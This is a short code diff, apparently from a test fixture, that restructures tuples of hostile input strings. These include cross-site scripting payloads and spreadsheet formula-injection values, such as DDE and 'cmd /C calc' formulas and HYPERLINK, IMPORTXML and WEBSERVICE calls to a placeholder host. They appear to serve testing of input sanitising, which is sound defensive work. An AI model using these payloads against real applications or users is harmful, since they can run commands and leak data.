@@ -75,12 +75,13 @@ _SPOKEN = (
     *("{{E}}", "${E}", "<script>OWN</script>", "<img src=x onerror=OWN>", "</script><script>OWN</script>", '";OWN;"'),
     *("javascript:OWN", "<svg/onload=OWN>", "--><img src=x onerror=OWN>", "<b>E</b>", "&E;", "'+OWN+'", "`${OWN}`"),
 )  # fmt: skip
-FORMULAS = tuple(
-    f"{before}{sign}{rest}"
-    for before in ("", "'", "''", " ", "\t", "\n", "\u00a0", '"')
-    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "|", "%")
-    for rest in ("E", 'HYPERLINK("https://HOST/E")')
-) + (
+FORMULAS = (
+    *(
+        f"{before}{sign}{rest}"
+        for before in ("", "'", "''", " ", "\t", "\n", "\u00a0", '"')
+        for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "|", "%")
+        for rest in ("E", 'HYPERLINK("https://HOST/E")')
+    ),
     *("=cmd|' /C calc'!A0 E", "=DDE(\"cmd\",\"/C calc\",\"E\")", "=2+5+cmd|' /C calc'!A0", '=IMPORTXML("https://HOST/E","//a")'),
     *('=WEBSERVICE("https://HOST/E")', "=1+1", "-72.5", "+33 1 23 45 67 89", "-", "=", "@", "+", "@SUM(1+1)*cmd|' /C calc'!A0"),
     *("-1e5", "- dashed -", "--E", "=E", "+E", "-E", "@E", "=\"a\"", "=TRUE", "=A1:B2", "=_xlfn.E", "'", "''", "'=", "''=E"),
